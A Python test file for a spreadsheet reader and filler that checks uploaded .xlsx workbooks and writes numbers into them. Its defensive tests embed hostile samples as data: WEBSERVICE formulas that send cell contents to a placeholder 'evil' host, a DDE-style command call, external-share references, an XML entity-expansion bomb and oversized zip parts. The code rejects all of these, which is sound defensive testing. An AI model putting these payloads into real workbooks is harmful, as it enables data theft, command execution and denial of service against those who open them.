"""Ugly workbooks come back as they came, but for the numbers; dangerous ones are not taken."""

import io
import re
import zipfile
from decimal import Decimal

import pytest
import python_calamine

from yijia.base.errors import Invalid
from yijia.engines.forms import rules
from yijia.engines.forms.rules import Bound, Holds, holding
from yijia.engines.forms.rules.books import MOST_UNPACKED, Put
from yijia.engines.forms.rules.formats import read_styles
from yijia.engines.forms.tests import ugly

FIRST, SECOND = "报表", "汇总"


def opened(content: bytes) -> tuple[rules.Book, rules.Read]:
    book = rules.open_book(content)
    return book, rules.read(book, book.worksheet(FIRST))


def filled(**numbers: str | None) -> bytes:
    puts = {
        rules.cell_of(name): Put(None if value is None else Decimal(value))
        for name, value in numbers.items()
    }
    return rules.filled(rules.open_book(ugly.workbook()), puts={FIRST: puts})


def seen_by_another(content: bytes) -> list[list[object]]:
    """What another reader finds in the first worksheet."""
    sheet = python_calamine.load_workbook(io.BytesIO(content)).get_sheet_by_name(FIRST)
    return [list(row) for row in sheet.to_python(skip_empty_area=False)]


def test_cells_are_read_as_people_see_them() -> None:
    _book, found = opened(ugly.workbook())
    said = {cell.name: seen.text for cell, seen in found.cells.items()}
    assert said["A1"] == "群众诉求办理情况统计表"
    assert said["A2"] == "上报件数"
    assert said["F1"] == "2025-11-01"
    assert said["C3"] == "75%"
    assert said["D2"] == "走访户数"
    assert found.hidden_columns == {5}
    assert found.anchor_of(rules.cell_of("C1")).name == "A1"
    assert found.seen(rules.cell_of("C3")).has_formula


def test_a_page_draws_merged_cells_once_and_nothing_hidden() -> None:
    _book, found = opened(ugly.workbook())
    rows = dict(rules.drawn(found))
    head = rows[1][0]
    assert (head.cell.name, head.columns, head.rows) == ("A1", 4, 1)
    assert [one.cell.name for one in rows[1]] == ["A1", "F1"]
    assert [one.cell.name for one in rows[4]] == ["B4", "C4", "D4", "F4"]


def test_numbers_are_written_and_no_other_byte_of_a_part_is_changed() -> None:
    before, after = ugly.parts_of(ugly.workbook()), ugly.parts_of(filled(A3="8", D3="41", E9="3"))
    same = set(before) - {"xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}
    assert list(before) == list(after)
    assert {name for name in before if before[name] == after[name]} >= same
    sheet = before["xl/worksheets/sheet1.xml"].decode()
    for old, new in (
        ('<c r="A3" s="0"><v>12</v></c>', '<c r="A3"><v>8</v></c>'),
        ('<c r="D3" s="0"/>', '<c r="D3"><v>41</v></c>'),
        ("<v>0.75</v>", ""),
        ("</sheetData>", '<row r="9"><c r="E9"><v>3</v></c></row></sheetData>'),
    ):
        sheet = sheet.replace(old, new)
    assert after["xl/worksheets/sheet1.xml"].decode() == sheet


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("B3", '<c r="B3"><v>5</v></c><c r="C3"'),
        ("E3", '<c r="D3" s="0"/><c r="E3"><v>5</v></c></row>'),
        ("A4", '<row><c r="A4"><v>5</v></c><c r="B4"'),
        ("A5", '<row r="5"><c r="A5"><v>5</v></c></row><row r="6"'),
        ("B6", '<row r="6" ht="9"><c r="B6"><v>5</v></c></row></sheetData>'),
    ],
)
def test_a_cell_that_the_worksheet_has_not_is_put_where_it_belongs(cell: str, written: str) -> None:
    after = ugly.parts_of(filled(**{cell: "5"}))["xl/worksheets/sheet1.xml"].decode()
    assert written in after


def test_another_program_reads_the_numbers_the_day_and_the_words() -> None:
    rows = seen_by_another(filled(A3="8", D3=None, B4="0.5"))
    assert rows[0][0] == "群众诉求办理情况统计表"
    assert (rows[2][0], rows[2][3], rows[3][1]) == (8.0, "", 0.5)
    assert str(rows[0][5]).startswith("2025-11-01")


def test_what_was_computed_before_is_computed_anew_in_every_worksheet() -> None:
    after = ugly.parts_of(filled(A3="8"))
    assert b"<x:f>" in after["xl/worksheets/sheet2.xml"]
    assert b"<x:v>24" not in after["xl/worksheets/sheet2.xml"]
    assert b"<x:c><x:v>1</x:v></x:c>" in after["xl/worksheets/sheet2.xml"]
    assert re.search(rb'</definedNames><calcPr fullCalcOnLoad="1"/>', after["xl/workbook.xml"])


def test_how_a_workbook_computes_is_kept_beside_it() -> None:
    said = ugly.WORKBOOK.replace("</workbook>", '<calcPr calcId="191029"/></workbook>')
    book = rules.open_book(ugly.workbook(**{"xl/workbook.xml": said}))
    after = ugly.parts_of(rules.filled(book, puts={}))["xl/workbook.xml"]
    assert b'<calcPr calcId="191029" fullCalcOnLoad="1"/>' in after


def test_a_worksheet_with_prefixes_is_written_with_them() -> None:
    book = rules.open_book(ugly.workbook())
    puts = {SECOND: {rules.cell_of(name): Put(Decimal(4)) for name in ("B1", "C1", "A2")}}
    after = ugly.parts_of(rules.filled(book, puts=puts))["xl/worksheets/sheet2.xml"].decode()
    cell = '<x:c r="{}"><x:v>4</x:v></x:c>'
    assert f"{cell.format('B1')}{cell.format('C1')}</x:row>" in after
    assert f'<x:row r="2">{cell.format("A2")}</x:row></x:sheetData>' in after


def test_a_share_is_written_as_the_cell_shows_it() -> None:
    share = {rules.cell_of(name): Put(Decimal("87.5"), is_share=True) for name in ("B4", "A3")}
    content = rules.filled(rules.open_book(ugly.workbook()), puts={FIRST: share})
    after = ugly.parts_of(content)["xl/worksheets/sheet1.xml"].decode()
    assert '<c r="B4" s="2"><v>0.875</v></c>' in after
    assert '<c r="A3"><v>87.5</v></c>' in after


def test_the_same_numbers_make_the_same_bytes() -> None:
    assert filled(A3="8") == filled(A3="8")


def test_a_cell_that_computes_itself_or_is_covered_is_not_bound() -> None:
    _book, found = opened(ugly.workbook())
    rules.check_bindable(found, rules.cell_of("A3"))
    for name in ("C3", "B1", "A4"):
        with pytest.raises(Invalid):
            rules.check_bindable(found, rules.cell_of(name))


LINK = (
    f'<Relationships xmlns="{ugly.PACKAGE}"><Relationship Id="rId1" TargetMode="External"'
    f' Type="{ugly.RELATIONS}/{{kind}}" Target="https://example.org/"/></Relationships>'
)
BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><sst>&b;</sst>'


@pytest.mark.parametrize(
    ("content", "name", "said"),
    [
        (b"", "a.xlsx", "empty"),
        (b"name,number\n", "a.xlsx", "no Excel workbook"),
        (ugly.workbook(), "a.pdf", "no Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "a.xls", "old .xls"),
        (ugly.workbook(), "a.xlsm", "macros"),
        (ugly.with_parts(xl__vbaProject_dot_bin=b"x"), "a.xlsx", "macros"),
        (
            ugly.workbook(
                Content_Types=ugly.TYPES.replace("sheet.main", "sheet.macroEnabled.main")
            ),
            "a.xlsx",
            "macros",
        ),
        (
            ugly.with_parts(xl__externalLinks__externalLink1_dot_xml="<a/>"),
            "a.xlsx",
            "another file",
        ),
        (ugly.with_parts(xl__connections_dot_xml="<a/>"), "a.xlsx", "another file"),
        (
            ugly.with_parts(
                xl__worksheets___rels__sheet1_dot_xml_dot_rels=LINK.format(kind="image")
            ),
            "a.xlsx",
            "another file",
        ),
        (ugly.workbook()[:-400], "a.xlsx", "cannot be read"),
        (ugly.made_of({"word/document.xml": "<a/>"}), "a.xlsx", "cannot be read"),
        (ugly.workbook(**{"xl/workbook.xml": "no markup"}), "a.xlsx", "cannot be read"),
        (ugly.with_parts(bomb=b"0" * (MOST_UNPACKED + 1)), "a.xlsx", "larger than"),
    ],
)
def test_what_is_no_harmless_workbook_is_refused_with_what_to_do(
    content: bytes, name: str, said: str
) -> None:
    with pytest.raises(Invalid, match=said) as refused:
        rules.open_book(content, name=name)
    assert refused.value.field == "sheet"


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("http://x/relationships/externalLink", "another file"),
        ("http://x/relationships/connections", "another file"),
        ("http://x/relationships/queryTable", "another file"),
        ("http://x/relationships/oleObject", "another file"),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "macros"),
        ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macros"),
    ],
)
def test_a_part_that_runs_or_reaches_out_is_known_whatever_it_is_named(
    kind: str, said: str
) -> None:
    bound = f'<Relationship Id="rId9" Type="{kind}" Target="notes/plain.xml"/></Relationships>'
    relations = ugly.WORKBOOK_RELATIONS.replace("</Relationships>", bound)
    renamed = {"xl/_rels/workbook.xml.rels": relations, "xl/notes/plain.xml": "<a/>"}
    with pytest.raises(Invalid, match=said):
        rules.open_book(ugly.made_of({**ugly.PARTS, **renamed}))


def sheet_with(row: str, *, before: str = "", after: str = "") -> bytes:
    """The workbook with other columns, or another row, in its first worksheet."""
    head = ugly.SHEET.partition("<cols>")[0]
    return ugly.workbook(sheet1=f"{head}{before}<sheetData>{row}</sheetData>{after}</worksheet>")


@pytest.mark.parametrize(
    "content",
    [
        sheet_with('<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://x/?"&amp;B1)</f></c></row>'),
        sheet_with('<row r="1"><c r="A1"><f>1+&#82;TD("a",,"b")</f></c></row>'),
        sheet_with("", after="<x:f>_xlfn.IMAGE( B1 )</x:f>"),
        sheet_with("", after="<formula1>webservice(B1)</formula1>"),
        ugly.workbook(
            **{"xl/workbook.xml": ugly.WORKBOOK.replace("报表!$A$1:$F$9", 'WEBSERVICE("http://x")')}
        ),
    ],
)
def test_a_formula_that_hands_on_what_stands_beside_it_is_refused(content: bytes) -> None:
    with pytest.raises(Invalid, match="another file"):
        rules.check_book(rules.open_book(content))


SENT = 'WEBSERVICE("http://evil/"&amp;A2)'


@pytest.mark.parametrize(
    "formula",
    [
        # A sheet whose name holds the mark of a text, and the other way round.
        f"'a\"b'!A1&amp;{SENT}&amp;'a\"b'!A1",
        f'"it\'s"&amp;{SENT}&amp;"it\'s"',
        f"T[a'\"]&amp;{SENT}&amp;T[a'\"]",
        # Another file, named where it is used and nowhere else.
        r"'\\evil\share\[a.xlsx]S'!A1",
        "'http://evil/[a.xlsx]S'!A1",
        "'http://evil/a.xlsx'!Name",
        "[a.xlsx]S!A1",
        "[1]S!A1",
        "[1]!Name",
        "1+[a.xls]",
        # A program, and a function that is handed to another one.
        "cmd|'x'!A1",
        "MAP(A1:A3,_xleta.WEBSERVICE)",
        '_xlfn.STOCKHISTORY("MSFT",A1)',
        # What is not closed could be closed elsewhere by another program.
        'A1&amp;"',
        "'S!A1",
    ],
)
def test_a_formula_that_reaches_out_is_known_however_it_is_written(formula: str) -> None:
    content = sheet_with(f'<row r="1"><c r="A1"><f>{formula}</f></c></row>')
    with pytest.raises(Invalid, match="another file"):
        rules.check_book(rules.open_book(content))


@pytest.mark.parametrize(
    ("part", "body"),
    [
        (
            "xl/tables/table1.xml",
            f"<calculatedColumnFormula>{SENT}</calculatedColumnFormula>",
        ),
        ("xl/tables/plain.bin", f" <t><x:totalsRowFormula>{SENT}</x:totalsRowFormula></t>"),
        ("xl/charts/chart1.xml", f"<c:chart><c:f>{SENT}</c:f></c:chart>"),
        ("xl/drawings/drawing2.xml", "<d><sp textlink=\"'http://e/[a.xlsx]S'!A1\"/></d>"),
        ("xl/ctrlProps/ctrlProp1.xml", "<p fmlaLink=\"'http://e/[a.xlsx]S'!A1\"/>"),
        ("xl/pivotCache/cache.xml", f"<p formula='{SENT}'/>"),
        ("xl/sheets/hidden.xml", f"<worksheet><f>1+<b/>{SENT}</f></worksheet>"),
        ("xl/drawings/old.vml", f"<xml><x:FmlaPict>{SENT}</x:FmlaPict><br></xml>"),
    ],
)
def test_a_formula_is_looked_at_in_every_part(part: str, body: str) -> None:
    with pytest.raises(Invalid, match="another file"):
        rules.check_book(rules.open_book(ugly.made_of({**ugly.PARTS, part: body})))


def relations_with(old: str, new: str) -> dict[str, str]:
    """The relations of the workbook, one of them put in other words."""
    return {"xl/_rels/workbook.xml.rels": ugly.WORKBOOK_RELATIONS.replace(old, new)}


def test_a_worksheet_is_read_wherever_it_lies_and_however_it_is_spelled() -> None:
    parts = {**ugly.PARTS, **relations_with("worksheets/sheet1.xml", "Sheets/Sheet1.XML")}
    parts["xl/sheets/sheet1.xml"] = parts.pop("xl/worksheets/sheet1.xml")
    book, found = opened(ugly.made_of(parts))
    assert [one.part for one in book.worksheets] == [
        "xl/sheets/sheet1.xml",
        "xl/worksheets/sheet2.xml",
    ]
    assert found.seen(rules.cell_of("A3")).text == "12"


def test_a_sheet_that_is_a_chart_alone_has_no_cells_and_is_taken() -> None:
    chart = '<sheet name="图" sheetId="3" r:id="rId9"/></sheets>'
    parts = {
        **ugly.PARTS,
        "xl/workbook.xml": ugly.WORKBOOK.replace("</sheets>", chart),
        "xl/chartsheets/sheet1.xml": f'<chartsheet xmlns="{ugly.MAIN}"/>',
        **relations_with(
            "</Relationships>",
            f'<Relationship Id="rId9" Type="{ugly.RELATIONS}/chartsheet"'
            ' Target="chartsheets/sheet1.xml"/></Relationships>',
        ),
    }
    book = rules.open_book(ugly.made_of(parts))
    rules.check_book(book)
    assert [one.name for one in book.worksheets] == [FIRST, SECOND]


@pytest.mark.parametrize(
    "changed",
    [
        relations_with("worksheets/sheet1.xml", "worksheets/sheet9.xml"),
        relations_with("worksheets/sheet1.xml", "/xl/worksheets/Sheet2.xml"),
        relations_with("worksheets/sheet1.xml", "styles.xml"),
        relations_with("relationships/worksheet", "relationships/theme"),
        relations_with('"rId4"', '"rId1"'),
        {"_rels/.rels": str(ugly.PARTS["_rels/.rels"]).replace("xl/w", "xl/a/w")},
        {"xl/workbook.xml": ugly.WORKBOOK.replace("汇总", FIRST)},
    ],
)
def test_a_workbook_in_which_two_programs_could_find_different_sheets_is_refused(
    changed: dict[str, str],
) -> None:
    with pytest.raises(Invalid, match="cannot be read"):
        rules.open_book(ugly.made_of({**ugly.PARTS, **changed}))


def test_formulas_that_stay_in_the_workbook_are_taken() -> None:
    said = (
        'IF(B1,"CALL (0571)",RECALL(B1))',
        'IF(B1,"""http://evil/[a.xlsx]"" | ","it\'s")',
        "'a\"b'!A1+'it''s'!B2+'一 月:三月'!C3",
        "SUM(表1[[#This Row],[a'[b']]],表1[件数])+SUM(T.1[件.数])",
        "[0]!区域+SUM([@件数])",
        'SUM({1,2;3,4})&amp;TEXT(A1,"[>1]0")&amp;HYPERLINK("http://a.org/?[b]")',
    )
    cells = "".join(f"<c><f>{one}</f></c>" for one in said)
    rules.check_book(rules.open_book(sheet_with(f"<row>{cells}</row>")))


# Each of these would take minutes, or all memory.
@pytest.mark.parametrize(
    "content",
    [
        sheet_with("", before='<col min="1" max="16384" hidden="1"/>' * 20_000),
        sheet_with("", after='<mergeCell ref="A1:BH200"/>' * 2_000),
        sheet_with("", after='<mergeCell ref="CA1:CB2"/>' * 20_000),
        sheet_with("", after="<a/>" * 1_000_001),
        ugly.workbook(Content_Types=ugly.TYPES.replace("</Types>", f"{'<a/>' * 100_001}</Types>")),
    ],
)
def test_a_workbook_that_is_small_and_endless_to_read_is_refused(content: bytes) -> None:
    with pytest.raises(Invalid, match="cannot be read"):
        rules.check_book(rules.open_book(content))


def packed_as(kind: int, *, cut: int = 0) -> bytes:
    """The workbook with its parts packed in another way, and some of the bytes of one changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as file:
        for name, body in ugly.PARTS.items():
            file.writestr(name, body)
    content = out.getvalue()
    return content[:cut] + bytes([content[cut] ^ 0xFF]) * 9 + content[cut + 9 :] if cut else content


@pytest.mark.parametrize(
    ("content", "said"),
    [
        *(
            (sheet_with(f'<row r="1"><c r="B1" s="{style}"><v>{number}</v></c></row>'), "cell B1")
            for style in (0, 1, 2)
            for number in ("sNaN", "NaN", "Infinity", "1e999999", "-1e400", "1e-999999", "x")
        ),
        *(
            (sheet_with("", before=f"<cols><col {said}/></cols>"), "cannot be read")
            for said in ('min="0" max="3"', 'min="-9" max="3" hidden="1"', 'max="3"')
        ),
        (sheet_with('<row r="0"/>'), "cannot be read"),
        (sheet_with(f'<row r="{10**9}"/>'), "cannot be read"),
        (sheet_with('<row r="1"><c r="XFE1"/></row>'), "cannot be read"),
        # Of a cell that is there twice only one would be filled.
        (sheet_with('<row r="1"><c r="A1"/><c r="A1"/></row>'), "cannot be read"),
        (sheet_with('<row r="1"><c r="B1"/><c r="A1"/></row>'), "cannot be read"),
        (sheet_with('<row r="1"><c r="A2"/></row>'), "cannot be read"),
        (sheet_with('<row r="2"/><row r="2"/>'), "cannot be read"),
        (sheet_with('<row r="2"/><row r="1"/>'), "cannot be read"),
        (sheet_with("", after='<sheetData><row r="1"/></sheetData>'), "cannot be read"),
        (ugly.workbook(styles=ugly.STYLES.replace('"31"', '"many"')), "cannot be read"),
        (packed_as(zipfile.ZIP_BZIP2), "cannot be read"),
        (packed_as(zipfile.ZIP_LZMA), "cannot be read"),
        (packed_as(zipfile.ZIP_DEFLATED, cut=60), "cannot be read"),
        (ugly.with_parts(XL__Workbook_dot_xml="<a/>"), "cannot be read"),
        (
            ugly.with_parts(
                xl__worksheets___RELS__sheet1_dot_xml_dot_RELS=LINK.format(kind="image")
            ),
            "another file",
        ),
    ],
)
def test_what_could_not_be_read_or_filled_later_is_refused_when_it_comes(
    content: bytes, said: str
) -> None:
    with pytest.raises(Invalid, match=said) as refused:
        rules.check_book(rules.open_book(content))
    assert refused.value.field == "sheet"


ARRAY = (
    '<row r="1"><c r="A1"><f t="array" ref="A1:B2">C1:D2*2</f><v>4</v></c><c r="B1"><v>6</v></c>'
    '<c r="C1"><v>2</v></c></row>'
)


def test_what_one_formula_computes_for_many_cells_is_not_bound_and_computed_anew() -> None:
    _book, found = opened(sheet_with(ARRAY))
    for name in ("A1", "B1", "A2", "B2"):
        with pytest.raises(Invalid, match="computes itself"):
            rules.check_bindable(found, rules.cell_of(name))
    rules.check_bindable(found, rules.cell_of("C1"))
    after = ugly.parts_of(rules.filled(rules.open_book(sheet_with(ARRAY)), puts={}))
    cells = after["xl/worksheets/sheet1.xml"].decode()
    assert "<v>4</v>" not in cells and "<v>6</v>" not in cells and "<v>2</v>" in cells


@pytest.mark.parametrize(
    ("code", "is_day"),
    [
        ('m"月"', True),
        ('m"月"d"日"', True),
        ("[$-804]yyyy-mm", True),
        ("mmm", True),
        ('h"时"mm"分"', False),
        ("mm:ss", False),
        ('0"米"', False),
        ("General", False),
        ("_-* #,##0.00_d", False),
        ("[Red]0.0", False),
    ],
)
def test_a_format_shows_a_day_by_what_is_not_quoted(code: str, is_day: bool) -> None:
    said = code.replace('"', "&quot;")
    styles = (
        f'<styleSheet><numFmts><numFmt numFmtId="200" formatCode="{said}"/></numFmts>'
        '<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    assert (0 in read_styles(styles.encode()).days) is is_day


def test_of_the_formats_that_are_known_by_number_hours_are_no_days() -> None:
    xfs = "".join(f'<xf numFmtId="{number}"/>' for number in range(60))
    found = read_styles(f"<styleSheet><cellXfs>{xfs}</cellXfs></styleSheet>".encode()).days
    assert found == {14, 15, 16, 17, 22, 27, 28, 29, 30, 31, 36, 50, 51, 52, 53, 54, 57, 58}


def test_a_cell_that_is_not_there_yet_looks_as_its_row_or_its_column() -> None:
    content = sheet_with(
        '<row r="2" s="3" customFormat="1"><c r="C2"/></row><row r="3" s="3"/>',
        before='<cols><col min="2" max="4" style="1"/></cols>',
    )
    book, found = opened(content)
    styles = {
        name: found.seen(rules.cell_of(name)).style for name in ("B2", "C2", "B3", "B9", "A9")
    }
    assert styles == {"B2": 3, "C2": 0, "B3": 1, "B9": 1, "A9": 0}
    puts = {rules.cell_of(name): Put(Decimal(4)) for name in ("B2", "B3", "B9", "A9")}
    after = ugly.parts_of(rules.filled(book, puts={FIRST: puts}))
    cells = after["xl/worksheets/sheet1.xml"].decode()
    for made in ('r="B2" s="3"', 'r="B3" s="1"', 'r="B9" s="1"', 'r="A9"'):
        assert f"<c {made}><v>4</v></c>" in cells


def test_what_a_cell_held_is_kept_where_another_workbook_can_hold_it() -> None:
    book = rules.open_book(ugly.workbook())
    held = {
        "A3": Holds.FIGURE,  # a number
        "D3": Holds.FIGURE,  # empty
        "F1": Holds.MONTH,  # a day
        "A2": Holds.FIGURE,  # words
        "C3": Holds.FIGURE,  # a formula
        "B1": Holds.FIGURE,  # covered
        "F9": Holds.FIGURE,  # beyond the last row
        "E2": Holds.MONTH,  # no day
    }
    bounds = [Bound(FIRST, cell, holds) for cell, holds in held.items()]
    bounds.append(Bound("没有", "A3", Holds.FIGURE))
    assert rules.still_held(book, bounds) == {bounds[0], bounds[1], bounds[2]}


def test_of_what_cells_held_each_worksheet_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    reads: list[str] = []

    def read(book: rules.Book, worksheet: rules.Worksheet) -> rules.Read:
        reads.append(worksheet.name)
        return rules.read(book, worksheet)

    monkeypatch.setattr(holding, "read", read)
    bounds = [Bound(name, cell, Holds.FIGURE) for name in (FIRST, SECOND) for cell in ("A1", "B1")]
    holding.still_held(rules.open_book(ugly.workbook()), bounds)
    assert reads == [FIRST, SECOND]


def test_an_address_to_click_on_is_no_harm() -> None:
    link = LINK.format(kind="hyperlink")
    content = ugly.with_parts(xl__worksheets___rels__sheet1_dot_xml_dot_rels=link)
    assert rules.open_book(content).worksheets[0].name == FIRST


@pytest.mark.parametrize("part", ["sharedStrings", "sheet1"])
def test_what_unfolds_itself_is_not_read(part: str) -> None:
    body = BOMB if part == "sharedStrings" else BOMB.replace("sst", "worksheet")
    with pytest.raises(Invalid, match="cannot be read"):
        opened(ugly.workbook(**{part: body}))
